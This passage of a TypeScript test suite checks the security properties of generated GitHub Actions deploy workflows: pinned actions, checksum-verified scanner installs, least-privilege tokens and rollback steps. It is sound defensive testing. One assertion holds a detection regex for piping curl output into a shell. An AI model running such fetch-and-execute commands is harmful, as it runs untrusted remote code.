import { expect } from "chai";
import { execFileSync, spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parse } from "yaml";
import * as gcp from "../components/gcp";
import * as github from "../components/github";
import { runProject } from "../plan/engine";
import { runwayPolicyPack } from "../plan";
import { runPolicies } from "../plan/engine/policies";
import { loadProjectConfig } from "../plan/engine/project";
import { analyzeWorkflow } from "../policy/lib/workflows";
import { PRIMITIVE_ROLES } from "../rules/gcp/iam";
import { matchesPattern } from "../policy/lib/names";
import { JOB_SETUP_MINUTES, WAITS, cloudRunChecks, jobMinutes } from "../rules/delivery";
import { FULL_PLAN_AT } from "../plan/markdown";
import { actionlint } from "./helpers/actionlint";
import { ROOT, planStack } from "./helpers/plans";
import { expectRejected, ofType, one, record } from "./helpers/record";

const { Struct } = require("google-protobuf/google/protobuf/struct_pb");

function settings(tier: string, overrides: Partial<github.DeliverySettings> = {}): github.DeliverySettings {
    const d = github.deliveryFor(tier as "solo" | "staging" | "production", "main", "staging");
    return {
        tier,
        defaultBranch: "main",
        deployBranch: d.deployBranch,
        environment: d.environment,
        appDirectory: "app",
        dockerfile: "app/Dockerfile",
        infraDirectory: ".",
        previewStacks: d.previewStacks,
        healthPath: "/health",
        nodeVersion: "20",
        ...overrides,
    };
}
const TIERS = ["solo", "staging", "production"];
const TARGETS: github.DeployKind[] = ["cloud-run", "ecs", "lambda"];
const jobsOf = (content: string): Record<string, any> => parse(content).jobs;
const isWorkflow = (file: string) => file.startsWith(".github/workflows/");
/** Every generated file, for every tier and deploy target. */
function allFiles(): [string, string][] {
    return TIERS.flatMap((tier) =>
        TARGETS.flatMap((target) =>
            Object.entries(github.workflowFiles(settings(tier, { target }), true))
                .filter(([f]) => isWorkflow(f))
                .map(([f, c]): [string, string] => [`${tier}/${target}/${f}`, c]),
        ),
    );
}
function ownWorkflows(): [string, string][] {
    const dir = path.join(ROOT, ".github", "workflows");
    return fs
        .readdirSync(dir)
        .filter((f) => /\.ya?ml$/.test(f))
        .map((f) => [f, fs.readFileSync(path.join(dir, f), "utf8")]);
}
const stepsOf = (content: string): any[] => Object.values<any>(jobsOf(content)).flatMap((j) => j.steps ?? []);
const deployDoc = (tier: string, target: github.DeployKind, extra: Partial<github.DeliverySettings> = {}): any =>
    parse(github.workflowFiles(settings(tier, { target, ...extra }), false)[`.github/workflows/deploy-${tier}.yml`]);
const deploySteps = (tier: string, target: github.DeployKind, extra: Partial<github.DeliverySettings> = {}): any[] =>
    deployDoc(tier, target, extra).jobs.deploy.steps;
/**
 * Runs a step's script as GitHub runs it in the workflow `doc`: `shell: bash` (here via `defaults`)
 * is `bash --noprofile --norc -eo pipefail {0}`, no shell is `bash -e {0}` (docs.github.com, workflow
 * syntax, `jobs.<job_id>.steps[*].shell`). `stubs` defines shell functions that stand in for CLIs.
 */
function runAsGitHub(doc: any, script: string, env: Record<string, string>, stubs = "") {
    const flags = doc.defaults?.run?.shell === "bash" ? ["--noprofile", "--norc", "-eo", "pipefail"] : ["-e"];
    return spawnSync("bash", [...flags, "-c", `${stubs}\n${script}`], { encoding: "utf8", env: { ...process.env, ...env } });
}

describe("generated workflows", () => {
    for (const tier of TIERS) {
        it(`${tier}: every workflow passes actionlint 1.7 with zero findings, for Cloud Run, ECS and Lambda`, async () => {
            for (const target of TARGETS) {
                for (const [file, content] of Object.entries(github.workflowFiles(settings(tier, { target }), true)).filter(([f]) =>
                    isWorkflow(f),
                )) {
                    expect(await actionlint(content, file), `${target} ${file}`).to.deep.equal([]);
                }
            }
        });
    }

    it("actionlint 1.7 is the linter: it knows the vars context and rejects an input the action does not declare", async () => {
        const probe =
            'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ vars.X }}"\n      - uses: actions/checkout@v4\n        with:\n          bogus: 1\n';
        const findings = await actionlint(probe, "probe.yml");
        expect(findings).to.have.length(1);
        expect(findings[0]).to.include('input "bogus" is not defined');
    });

    it("Runway's own workflows pass actionlint with zero findings", async () => {
        const files = ownWorkflows();
        expect(files.length).to.be.at.least(3);
        for (const [f, content] of files) expect(await actionlint(content, f), f).to.deep.equal([]);
    });

    it("every uses: is a pinned 40-hex commit SHA with its release in a comment, and each pin is on the vendored table", () => {
        for (const [file, content] of [...allFiles(), ...ownWorkflows()]) {
            const lines = content.split("\n").filter((l) => /^\s*(- )?uses: /.test(l));
            for (const line of lines) {
                const m = /uses: (\S+)@([0-9a-f]{40}) # (v\d+\.\d+\.\d+)$/.exec(line);
                expect(m, `${file}: ${line.trim()}`).to.not.equal(null);
                const pinned = github.pinnedActionOf(`${m![1]}@${m![2]}`);
                expect(pinned, `${file}: ${line.trim()} is not in components/github/actions.ts`).to.not.equal(undefined);
                expect(pinned!.version).to.equal(m![3]);
            }
        }
    });

    it("every with: key is an input the pinned action.yml declares, and every steps.<id>.outputs.<name> an output it declares", () => {
        for (const [file, content] of [...allFiles(), ...ownWorkflows()]) {
            for (const job of Object.values<any>(jobsOf(content))) {
                const steps: any[] = job.steps ?? [];
                const byId = new Map(steps.filter((s) => s.id).map((s) => [s.id, s]));
                for (const step of steps.filter((s) => s.uses)) {
                    const pinned = github.pinnedActionOf(step.uses)!;
                    for (const key of Object.keys(step.with ?? {}))
                        expect(pinned.inputs, `${file}: ${pinned.repo} with.${key}`).to.include(key);
                }
                for (const [, id, output] of JSON.stringify(job).matchAll(/steps\.([\w-]+)\.outputs\.([\w-]+)/g)) {
                    const step = byId.get(id);
                    expect(step, `${file}: steps.${id}`).to.not.equal(undefined);
                    if (step.uses)
                        expect(github.pinnedActionOf(step.uses)!.outputs, `${file}: steps.${id}.outputs.${output}`).to.include(output);
                    else expect(step.run, `${file}: steps.${id} writes ${output}`).to.match(new RegExp(`${output}=`));
                }
            }
        }
    });

    it("Dependabot and Pulumi agree on owners: Dependabot skips every generated workflow and updates the Runway package, the app's packages and its base image", () => {
        const config = parse(github.workflowFiles(settings("production"), true)[".github/dependabot.yml"]);
        expect(config.version).to.equal(2);
        const actions = config.updates.find((u: any) => u["package-ecosystem"] === "github-actions");
        expect(actions.directory).to.equal("/");
        // Every workflow any stack of any tier commits is Pulumi's: a Dependabot bump there would be reverted by the next up.
        const generated = new Set(allFiles().map(([key]) => key.split("/").slice(2).join("/")));
        expect(generated.size).to.equal(7);
        for (const file of generated) expect(actions["exclude-paths"], file).to.include(file);
        const ecosystems = (c: any) => c.updates.map((u: any) => [u["package-ecosystem"], u.directory]);
        // The Runway package (infra directory) brings new pins; the app's npm packages; the Dockerfile's FROM line.
        expect(ecosystems(config)).to.deep.equal([
            ["github-actions", "/"],
            ["npm", "/app"],
            ["npm", "/"],
            ["docker", "/app"],
        ]);
        const monorepo = github.dependabotConfig({
            ...settings("solo"),
            appDirectory: "services/web/",
            dockerfile: "services/web/Dockerfile",
            infraDirectory: "./infra",
        });
        expect(ecosystems(monorepo)).to.deep.equal([
            ["github-actions", "/"],
            ["npm", "/services/web"],
            ["npm", "/infra"],
            ["docker", "/services/web"],
        ]);
        expect(Object.keys(github.workflowFiles(settings("staging"), false))).to.not.include(".github/dependabot.yml");
    });

    it("gitleaks, trivy and hadolint are release binaries that run only after their SHA-256 matched; no licence-bound, setup-at-run-time or container action", () => {
        // hadolint-action is a Docker action built FROM a mutable image tag, run in the job that writes the build cache.
        for (const [file, content] of allFiles())
            expect(content, file).not.to.match(/gitleaks\/gitleaks-action|aquasecurity\/(trivy|setup-trivy)-action|hadolint-action/);
        const steps = jobsOf(github.workflowFiles(settings("production"), true)[".github/workflows/runway-ci.yml"]).security.steps;
        for (const [tool, scan] of [
            [github.GITLEAKS, "Secret scan"],
            [github.TRIVY, "Image scan"],
            [github.HADOLINT, "Dockerfile lint"],
        ] as const) {
            const install = steps.findIndex((s: any) => s.env?.TOOL_URL === tool.url);
            expect(steps[install].env.TOOL_SHA256)
                .to.equal(tool.sha256)
                .and.match(/^[0-9a-f]{64}$/);
            expect(install, `${tool.binary} installed before "${scan}"`).to.be.within(0, steps.findIndex((s: any) => s.name === scan) - 1);
        }
        // Run the install script with a stub curl that "downloads" a local archive: a wrong digest installs nothing.
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-tool-"));
        fs.writeFileSync(path.join(dir, "gitleaks"), "#!/bin/sh\necho scanned\n", { mode: 0o755 });
        execFileSync("tar", ["-czf", path.join(dir, "release.tar.gz"), "-C", dir, "gitleaks"]);
        const digest = execFileSync("sha256sum", [path.join(dir, "release.tar.gz")], { encoding: "utf8" }).split(" ")[0];
        const install = steps.find((s: any) => s.env?.TOOL_URL === github.GITLEAKS.url);
        const run = (sha: string, temp: string) => {
            fs.mkdirSync(temp);
            const stub = `curl() { cp "${dir}/release.tar.gz" "\${@: -1}"; }`;
            return spawnSync("bash", ["-e", "-c", `${stub}\n${install.run}`], {
                env: { ...process.env, RUNNER_TEMP: temp, GITHUB_PATH: path.join(temp, "path"), TOOL_URL: "x", TOOL_SHA256: sha },
            });
        };
        const tampered = run("0".repeat(64), path.join(dir, "bad"));
        expect(tampered.status).to.not.equal(0);
        expect(fs.existsSync(path.join(dir, "bad", "bin", "gitleaks"))).to.equal(false);
        expect(run(digest, path.join(dir, "good")).status).to.equal(0);
        expect(fs.readFileSync(path.join(dir, "good", "path"), "utf8").trim()).to.equal(path.join(dir, "good", "bin"));
        // A bare executable (hadolint's release asset): checked the same way, installed executable under its name.
        const hadolint = steps.find((s: any) => s.env?.TOOL_URL === github.HADOLINT.url);
        const exe = path.join(dir, "hadolint-linux-x86_64");
        fs.writeFileSync(exe, '#!/bin/sh\necho linted "$@"\n');
        const exeDigest = execFileSync("sha256sum", [exe], { encoding: "utf8" }).split(" ")[0];
        const runBinary = (sha: string, temp: string) => {
            fs.mkdirSync(temp);
            return spawnSync("bash", ["-e", "-c", `curl() { cp "${exe}" "\${@: -1}"; }\n${hadolint.run}`], {
                env: { ...process.env, RUNNER_TEMP: temp, GITHUB_PATH: path.join(temp, "path"), TOOL_URL: "x", TOOL_SHA256: sha },
            });
        };
        expect(runBinary("0".repeat(64), path.join(dir, "bad-exe")).status).to.not.equal(0);
        expect(fs.existsSync(path.join(dir, "bad-exe", "bin", "hadolint"))).to.equal(false);
        expect(runBinary(exeDigest, path.join(dir, "good-exe")).status).to.equal(0);
        expect(execFileSync(path.join(dir, "good-exe", "bin", "hadolint"), ["Dockerfile"], { encoding: "utf8" }).trim()).to.equal(
            "linted Dockerfile",
        );
        const lint = steps.find((s: any) => s.name === "Dockerfile lint");
        expect([lint.run, lint.env]).to.deep.equal([
            'hadolint --failure-threshold warning "$DOCKERFILE"',
            { DOCKERFILE: "app/Dockerfile" },
        ]);
        fs.rmSync(dir, { recursive: true, force: true });
    });

    it("the secret scan reads the commits the change adds, not every branch and tag: a leak on someone else's branch blocks nobody else", () => {
        const git = (cwd: string, ...args: string[]) =>
            execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false", ...args], {
                cwd,
                encoding: "utf8",
                stdio: ["ignore", "pipe", "pipe"],
            }).trim();
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-leaks-"));
        const upstream = path.join(dir, "upstream");
        fs.mkdirSync(upstream);
        const commit = (message: string) => {
            fs.writeFileSync(path.join(upstream, `${message.replace(/\W+/g, "-")}.txt`), `${message}\n`);
            git(upstream, "add", "-A");
            git(upstream, "commit", "-q", "-m", message);
        };
        git(upstream, "init", "-q", "-b", "main");
        commit("old leak, rotated");
        commit("main tip");
        git(upstream, "checkout", "-q", "-b", "wip");
        commit("leak on a colleague's branch");
        git(upstream, "checkout", "-q", "-b", "feature", "main");
        commit("feature 1");
        const before = git(upstream, "rev-parse", "HEAD");
        commit("feature 2");
        git(upstream, "checkout", "-q", "main");
        // The runner's checkout: full history, every branch (actions/checkout with fetch-depth: 0).
        const work = path.join(dir, "work");
        git(dir, "clone", "-q", upstream, work);
        const step = jobsOf(github.workflowFiles(settings("production"), true)[".github/workflows/runway-ci.yml"]).security.steps.find(
            (s: any) => s.name === "Secret scan",
        );
        expect(step.env).to.deep.include({
            BASE_REF: "${{ github.base_ref }}",
            BEFORE: "${{ github.event.before }}",
            DEFAULT_BRANCH: "main",
        });
        // A stub gitleaks lists the commits its git log (gitleaks v8.30.1: `git log -p -U0 <log-opts>`) would read.
        const stub =
            'gitleaks() { for a in "$@"; do case "$a" in --log-opts=*) git log -p -U0 --format=COMMIT:%s ${a#--log-opts=} | sed -n "s/^COMMIT://p" ;; esac; done; }';
        const scanned = (at: string, env: Record<string, string>) => {
            git(work, "checkout", "-q", "--detach", at);
            const r = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", `${stub}\n${step.run}`], {
                cwd: work,
                encoding: "utf8",
                env: { ...process.env, BASE_REF: "", BEFORE: "", REF_NAME: "", DEFAULT_BRANCH: "main", ...env },
            });
            expect(r.status, r.stderr).to.equal(0);
            return r.stdout.split("\n").filter((l) => l && !l.startsWith("Scanning"));
        };
        expect(scanned("origin/feature", { BASE_REF: "main" }), "a pull request").to.deep.equal(["feature 2", "feature 1"]);
        expect(scanned("origin/feature", { BEFORE: before, REF_NAME: "feature" }), "a push").to.deep.equal(["feature 2"]);
        const zeros = "0".repeat(40);
        expect(scanned("origin/feature", { BEFORE: zeros, REF_NAME: "feature" }), "a new branch").to.deep.equal(["feature 2", "feature 1"]);
        expect(scanned("origin/feature", { BEFORE: "f".repeat(40), REF_NAME: "feature" }), "a force push").to.deep.equal([
            "feature 2",
            "feature 1",
        ]);
        // A manual deploy of the default branch: its whole history (not the colleague's branch).
        expect(scanned("origin/main", { REF_NAME: "main" })).to.deep.equal(["main tip", "old leak, rotated"]);
        fs.rmSync(dir, { recursive: true, force: true });
    });

    it("deploy cannot run unless the scans pass, and no scan can soft-fail", () => {
        for (const [file, content] of allFiles()) {
            expect(analyzeWorkflow(content, "high").softFails, file).to.deep.equal([]);
            expect(content, file).not.to.match(/continue-on-error|\|\| true|exit-code: "0"/);
        }
        for (const tier of TIERS) {
            const deploy = github.workflowFiles(settings(tier), false)[`.github/workflows/deploy-${tier}.yml`];
            expect(jobsOf(deploy).deploy.needs).to.equal("security");
            const jobs = analyzeWorkflow(deploy, "high").jobs;
            expect([...jobs.find((j) => j.id === "security")!.scanners].sort()).to.deep.equal([
                "dependency-audit",
                "dockerfile-lint",
                "image-scan",
                "secret-scan",
            ]);
            expect(jobs.find((j) => j.id === "deploy")!.scanners).to.deep.equal([]);
        }
    });

    it("scanners and every other third-party tool run in jobs that cannot mint a cloud credential; the deploy job runs none", () => {
        // Vendors whose actions a deploy job may run: GitHub's artifact download and the clouds' own login/deploy actions.
        const VENDORS = /^(actions\/download-artifact|google-github-actions\/(auth|setup-gcloud)|aws-actions\/[a-z-]+)@/;
        for (const tier of TIERS)
            for (const target of TARGETS) {
                const content = github.workflowFiles(settings(tier, { target }), true)[`.github/workflows/deploy-${tier}.yml`];
                const jobs = jobsOf(content);
                for (const [id, job] of Object.entries<any>(jobs)) {
                    if (job.permissions["id-token"] !== "write") continue;
                    expect(id, "only the deploy job holds id-token: write").to.equal("deploy");
                    for (const step of job.steps) {
                        if (step.uses) expect(step.uses, `${tier}/${target} ${step.name ?? ""}`).to.match(VENDORS);
                        expect(String(step.run ?? ""), step.name).not.to.match(
                            /\b(npm|npx|gitleaks|trivy|hadolint|curl [^\n]*\| *(ba)?sh)\b/,
                        );
                    }
                }
                const scanning = analyzeWorkflow(content, "high").jobs.filter((j) => j.scanners.length > 0);
                for (const j of scanning) expect(jobs[j.id].permissions, `${tier}/${target} ${j.id}`).not.to.have.property("id-token");
            }
    });

    for (const target of TARGETS) {
        it(`${target}: builds once with no credential, and the deploy job ships exactly the archive the scans passed`, () => {
            const jobs = jobsOf(github.workflowFiles(settings("production", { target }), false)[".github/workflows/deploy-production.yml"]);
            const all = [...jobs.security.steps, ...jobs.deploy.steps];
            const builds = all.filter((s) => String(s.uses).startsWith("docker/build-push-action"));
            expect(builds).to.have.length(1);
            expect(builds[0].with).to.include({ push: false, provenance: false, sbom: false });
            const dest = /type=docker,dest=\$\{\{ runner\.temp \}\}\/(.+)$/.exec(builds[0].with.outputs)![1];
            const scan = jobs.security.steps.find((s: any) => s.name === "Image scan");
            expect(scan.run).to.include(`trivy image --input "$RUNNER_TEMP/${dest}" --exit-code 1`);
            // The digest is recorded right after the build, before any third-party tool could change the archive.
            const record = jobs.security.steps.findIndex((s: any) => s.id === "archive");
            expect(record).to.equal(jobs.security.steps.indexOf(builds[0]) + 1);
            expect(jobs.security.outputs["archive-sha256"]).to.equal("${{ steps.archive.outputs.sha256 }}");
            const steps = jobs.deploy.steps;
            const load = steps.findIndex((s: any) => String(s.run).includes("docker load"));
            expect(steps[load].env.ARCHIVE_SHA256).to.equal("${{ needs.security.outputs.archive-sha256 }}");
            expect(steps[load].run.split("\n")[0]).to.include("sha256sum --check --strict");
            const login = steps.findIndex((s: any) => /google-github-actions\/auth|configure-aws-credentials/.test(String(s.uses)));
            expect(load, "the archive is checked before any credential exists").to.be.below(login);
            const push = steps.findIndex((s: any) => s.id === "push");
            const deployAt = steps.findIndex(
                (s: any, i: number) => i > push && JSON.stringify(s).includes("${{ steps.push.outputs.digest }}"),
            );
            expect(deployAt, "a step after the push deploys the pushed digest").to.be.greaterThan(push);
            expect(steps.some((s: any) => String(s.uses).startsWith("actions/checkout"))).to.equal(false);
            const variables = new Set(
                JSON.stringify(jobs)
                    .match(/vars\.(\w+)/g)!
                    .map((v) => v.slice(5)),
            );
            expect([...variables].sort()).to.deep.equal([...github.variablesFor(target)].sort());
        });
    }

    it("the deploy job loads only an archive with the recorded SHA-256, and outputs the digest the registry stored", () => {
        const steps = deploySteps("production", "ecs");
        const load = steps.find((s) => String(s.run).includes("docker load"));
        const push = steps.find((s) => s.id === "push");
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-push-"));
        fs.mkdirSync(path.join(dir, "runway-image"));
        fs.writeFileSync(path.join(dir, "runway-image", "image.tar"), "layers");
        const digest = execFileSync("sha256sum", [path.join(dir, "runway-image", "image.tar")], { encoding: "utf8" }).split(" ")[0];
        const calls = path.join(dir, "calls");
        const repo = "123456789012.dkr.ecr.us-east-1.amazonaws.com/app";
        const docker = [
            `docker() { echo "docker $*" >> "${calls}"; if [ "$1" = image ]; then`,
            `  printf '%s\\n' "other.example/app@sha256:${"1".repeat(64)}" "${repo}@sha256:${"a".repeat(64)}"; fi; }`,
        ].join("\n");
        const run = (script: string, sha: string) =>
            spawnSync("bash", ["-e", "-c", `${docker}\n${script}`], {
                encoding: "utf8",
                env: {
                    ...process.env,
                    RUNNER_TEMP: dir,
                    GITHUB_OUTPUT: path.join(dir, "out"),
                    ARCHIVE_SHA256: sha,
                    REPOSITORY: repo,
                    IMAGE_TAG: "abc-1-1",
                },
            });
        expect(run(load.run, "f".repeat(64)).status, "a different archive is refused").to.not.equal(0);
        expect(fs.existsSync(calls), "nothing was loaded").to.equal(false);
        expect(run(load.run, digest).status).to.equal(0);
        expect(run(push.run, digest).status).to.equal(0);
        expect(fs.readFileSync(calls, "utf8").trim().split("\n")).to.deep.equal([
            `docker load --input ${dir}/runway-image/image.tar`,
            `docker tag runway-app:candidate ${repo}:abc-1-1`,
            `docker push --quiet ${repo}:abc-1-1`,
            `docker image inspect --format {{range .RepoDigests}}{{println .}}{{end}} ${repo}:abc-1-1`,
        ]);
        expect(fs.readFileSync(path.join(dir, "out"), "utf8").trim()).to.equal(`digest=sha256:${"a".repeat(64)}`);
        fs.rmSync(dir, { recursive: true, force: true });
    });

    it("every job has a timeout and least permissions; only deploy and preview jobs mint OIDC tokens", () => {
        for (const [file, content] of allFiles()) {
            const doc = parse(content);
            expect(doc.permissions, file).to.deep.equal({ contents: "read" });
            expect(doc.concurrency, file).to.have.property("group");
            for (const [id, job] of Object.entries<any>(doc.jobs)) {
                expect(job["timeout-minutes"], `${file} ${id}`).to.be.within(1, 90);
                expect(
                    Object.values(job.permissions).every((p) => p === "read" || p === "write"),
                    `${file} ${id}`,
                ).to.equal(true);
                const writes = Object.entries(job.permissions)
                    .filter(([, p]) => p === "write")
                    .map(([k]) => k)
                    .sort();
                const allowed: Record<string, string[]> = {
                    deploy: ["id-token"],
                    "pulumi-preview": ["id-token"],
                    comment: ["pull-requests"],
                };
                expect(writes, `${file} ${id}`).to.deep.equal(allowed[id] ?? []);
            }
        }
    });

    it("a stuck rollout times out in its step, so the rollback runs: every deploy step has a limit and the job outlasts them all", () => {
        for (const tier of TIERS)
            for (const target of TARGETS) {
                const steps = deploySteps(tier, target);
                const job = jobsOf(github.workflowFiles(settings(tier, { target }), false)[`.github/workflows/deploy-${tier}.yml`]).deploy;
                const limits = steps.map((s) => s["timeout-minutes"]);
                expect(
                    limits.every((m) => Number.isInteger(m) && m > 0),
                    `${tier}/${target}: ${JSON.stringify(limits)}`,
                ).to.equal(true);
                expect(job["timeout-minutes"], `${tier}/${target}`).to.be.at.least(limits.reduce((a, b) => a + b, 0) + JOB_SETUP_MINUTES);
                const rollback = steps.find((s) => /^Roll back/.test(s.name));
                expect(rollback.if).to.include("failure()");
                if (target !== "ecs") continue;
                const deploy = steps.find((s) => String(s.uses).startsWith("aws-actions/amazon-ecs-deploy-task-definition"));
                // The action's own wait (default 30 min, as long as the old job) gives up before its step does.
                expect(deploy.with["wait-for-minutes"]).to.equal(WAITS.ecsStable).and.be.below(deploy["timeout-minutes"]);
                expect(rollback.run).to.include("aws ecs wait services-stable");
                expect(rollback["timeout-minutes"]).to.be.above(WAITS.ecsCliStable);
            }
        expect(() => jobMinutes([5, undefined])).to.throw(/step 2 has no timeout-minutes/);
        expect(jobMinutes([5, 10])).to.equal(15 + JOB_SETUP_MINUTES);
    });

    it("unapproved pull-request code gets no secret, no admin token and no persisted checkout credentials", () => {
        for (const [file, content] of [...allFiles(), ...ownWorkflows()]) {
            const doc = parse(content);
            const onPullRequests = doc.on && typeof doc.on === "object" && ("pull_request" in doc.on || "pull_request_target" in doc.on);
            expect(doc.on, file).not.to.have.property("pull_request_target");
            if (!onPullRequests) continue;
            // A secret only in a job that waits for a reviewer in its stack's preview environment: the read-only GitHub token.
            for (const [id, job] of Object.entries(doc.jobs as Record<string, any>)) {
                const secrets = [...JSON.stringify(job).matchAll(/secrets\.([A-Z0-9_]+)/g)].map((m) => m[1]);
                if (secrets.length === 0) continue;
                expect(job.environment, `${file} ${id}: a secret outside an approval-gated environment`).to.match(/^runway-preview-/);
                expect([...new Set(secrets)], `${file} ${id}`).to.deep.equal([github.PREVIEW_SECRETS.githubToken]);
            }
            for (const step of stepsOf(content).filter((s) => String(s.uses).startsWith("actions/checkout"))) {
                expect(step.with?.["persist-credentials"], file).to.equal(false);
            }
        }
    });

    it("production deploys only through the production environment; solo without one", () => {
        expect(
            jobsOf(github.workflowFiles(settings("production"), false)[".github/workflows/deploy-production.yml"]).deploy.environment,
        ).to.equal("production");
        expect(
            jobsOf(github.workflowFiles(settings("staging"), false)[".github/workflows/deploy-staging.yml"]).deploy.environment,
        ).to.equal("staging");
        expect(jobsOf(github.workflowFiles(settings("solo"), false)[".github/workflows/deploy-solo.yml"]).deploy).not.to.have.property(
            "environment",
        );
        expect(
            parse(github.workflowFiles(settings("staging"), false)[".github/workflows/deploy-staging.yml"]).on.push.branches,
        ).to.deep.equal(["staging"]);
    });

    it("Cloud Run: no-traffic revision, smoke test, traffic shift, candidate tag removed after promotion and after rollback", () => {
        const steps = deploySteps("production", "cloud-run");
        const at = (n: string) => steps.findIndex((s) => s.name === n);
        const deploy = steps[at("Deploy a revision with no traffic")];
        expect(at("Deploy a revision with no traffic")).to.be.below(at("Smoke test the new revision"));
        expect(at("Smoke test the new revision")).to.be.below(at("Shift traffic to the new revision and remove its tag"));
        expect(deploy.run).to.include("--no-traffic").and.include('--tag "$TAG"');
        // The rollback target is every revision serving traffic (percent > 0), not the first list entry.
        expect(deploy.run).to.include("select((.percent // 0) > 0)").and.not.include("traffic[0]");
        expect(steps[at("Smoke test the new revision")].run).to.include("/health").and.include("--fail");
        const promote = steps[at("Shift traffic to the new revision and remove its tag")].run;
        expect(promote).to.include("--to-latest").and.include('--remove-tags "$TAG"');
        const rollback = steps[at("Roll back to the previous revisions")];
        expect(rollback.if).to.include("failure()");
        expect(rollback.run)
            .to.include('--to-revisions "$PREVIOUS"')
            .and.include('--remove-tags "$TAG"')
            .and.include("::error")
            .and.include("exit 1");
        expect(steps.find((s) => String(s.uses).startsWith("google-github-actions/auth")).with).to.have.keys(
            "workload_identity_provider",
            "service_account",
        );
    });

    it("ECS: renders from the family's LATEST revision (config changes by pulumi up ship), waits for a steady state, smoke tests, and rolls back to the running ARN", () => {
        const steps = deploySteps("production", "ecs");
        const byName = (n: string) => steps.find((s) => s.name === n);
        const current = byName("Remember the running task definition and find its family's latest revision");
        expect(byName("Render the latest task definition with the scanned digest").with["task-definition-arn"]).to.equal(
            "${{ steps.current.outputs.latest }}",
        );
        // Run the step's script against a stub aws CLI: the service runs revision 7, pulumi up registered 9.
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-ecs-"));
        const calls = path.join(dir, "calls");
        const stub = [
            `aws() { echo "$*" >> "${calls}"; case "$2" in`,
            '  describe-services) echo "arn:aws:ecs:us-east-1:123456789012:task-definition/app-production:7" ;;',
            '  describe-task-definition) echo "arn:aws:ecs:us-east-1:123456789012:task-definition/$4:9" ;;',
            "esac; }",
        ].join("\n");
        execFileSync("bash", ["-c", `set -euo pipefail\n${stub}\n${current.run}`], {
            env: { ...process.env, CLUSTER: "c", SERVICE: "s", GITHUB_OUTPUT: path.join(dir, "out") },
        });
        expect(fs.readFileSync(path.join(dir, "out"), "utf8").trim().split("\n")).to.deep.equal([
            "arn=arn:aws:ecs:us-east-1:123456789012:task-definition/app-production:7",
            "latest=arn:aws:ecs:us-east-1:123456789012:task-definition/app-production:9",
        ]);
        expect(fs.readFileSync(calls, "utf8")).to.include("ecs describe-task-definition --task-definition app-production --query");
        fs.rmSync(dir, { recursive: true, force: true });
        expect(byName("Deploy and wait for a steady state").with["wait-for-service-stability"]).to.equal(true);
        expect(byName("Smoke test the new tasks from inside the VPC").run).to.include("aws lambda invoke");
        const rollback = byName("Roll back to the previous task definition");
        expect(rollback.if).to.include("failure()");
        expect(rollback.run)
            .to.include('--task-definition "$PREVIOUS"')
            .and.include("aws ecs wait services-stable")
            .and.include("::error")
            .and.include("exit 1");
        expect(steps.find((s) => String(s.uses).startsWith("aws-actions/configure-aws-credentials")).with).to.have.keys(
            "role-to-assume",
            "aws-region",
        );
    });

    it("smoke tests call <url>/<path> with exactly one slash, whether the URL output ends in / (a Lambda function URL) or not", () => {
        const cases: [github.DeployKind, Record<string, string>][] = [
            ["lambda", { SERVICE_URL: "https://abc.lambda-url.us-east-1.on.aws/", HEALTH_PATH: "/health" }],
            ["cloud-run", { CANDIDATE: "https://rev-1-1---app-xyz-uc.a.run.app/" }],
        ];
        for (const [target, env] of cases) {
            const smoke = deploySteps("solo", target).find((s) => /^Smoke test/.test(s.name));
            const out = execFileSync("bash", ["-e", "-c", `curl() { echo "\${@: -1}"; }\n${smoke.run}`], {
                encoding: "utf8",
                env: { ...process.env, ...env },
            }).trim();
            expect(out, target).to.match(/^https:\/\/[^/]+\/health$/);
        }
    });

    it("ECS: the new tasks are checked from inside the VPC: their addresses go to the smoke function, which must answer ok", () => {
        const smoke = deploySteps("staging", "ecs").find((s) => s.name === "Smoke test the new tasks from inside the VPC");
        expect(smoke.env.TASK_DEFINITION).to.equal("${{ steps.ecs.outputs.task-definition-arn }}");
        expect(smoke.run).not.to.match(/\bcurl\b/);
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-ecs-smoke-"));
        const task = (td: string, ip: string) => ({
            taskDefinitionArn: td,
            attachments: [
                {
                    details: [
                        { name: "subnetId", value: "subnet-1" },
                        { name: "privateIPv4Address", value: ip },
                    ],
                },
            ],
        });
        const tasks = { tasks: [task("td:9", "10.0.8.11"), task("td:7", "10.0.8.12"), task("td:9", "10.0.9.13")] };
        const run = (answer: unknown) => {
            const stub = [
                `aws() { echo "$*" >> "${dir}/calls"; case "$2" in`,
                '  list-tasks) echo "arn:task/a arn:task/b arn:task/c" ;;',
                `  describe-tasks) echo '${JSON.stringify(tasks)}' ;;`,
                `  invoke) cp "\${8#file://}" "${dir}/payload.json"; echo '${JSON.stringify(answer)}' > "$9" ;;`,
                "esac; }",
            ].join("\n");
            fs.rmSync(path.join(dir, "calls"), { force: true });
            return spawnSync("bash", ["-e", "-c", `${stub}\n${smoke.run}`], {
                encoding: "utf8",
                env: {
                    ...process.env,
                    RUNNER_TEMP: dir,
                    CLUSTER: "c",
                    SERVICE: "s",
                    TASK_DEFINITION: "td:9",
                    PORT: "8080",
                    HEALTH_PATH: "/health",
                    SMOKE_FUNCTION: "app-staging-smoke",
                },
            });
        };
        const ok = run({ ok: true, results: [] });
        expect(ok.status, ok.stderr).to.equal(0);
        // Only the tasks of the deployed task definition, on the service port, with one slash before the path.
        expect(JSON.parse(fs.readFileSync(path.join(dir, "payload.json"), "utf8"))).to.deep.equal({
            targets: ["http://10.0.8.11:8080/health", "http://10.0.9.13:8080/health"],
        });
        expect(fs.readFileSync(path.join(dir, "calls"), "utf8")).to.match(/^lambda invoke --function-name app-staging-smoke /m);
        expect(run({ ok: false, results: [{ target: "http://10.0.8.11:8080/health", error: "HTTP 500" }] }).status).to.not.equal(0);
        expect(run({ errorMessage: "Task timed out", errorType: "Sandbox.Timedout" }).status, "a failed invocation fails").to.not.equal(0);
        fs.rmSync(dir, { recursive: true, force: true });
    });

    it("an AWS stack's outputs become exactly the variables its deploy workflow reads", () => {
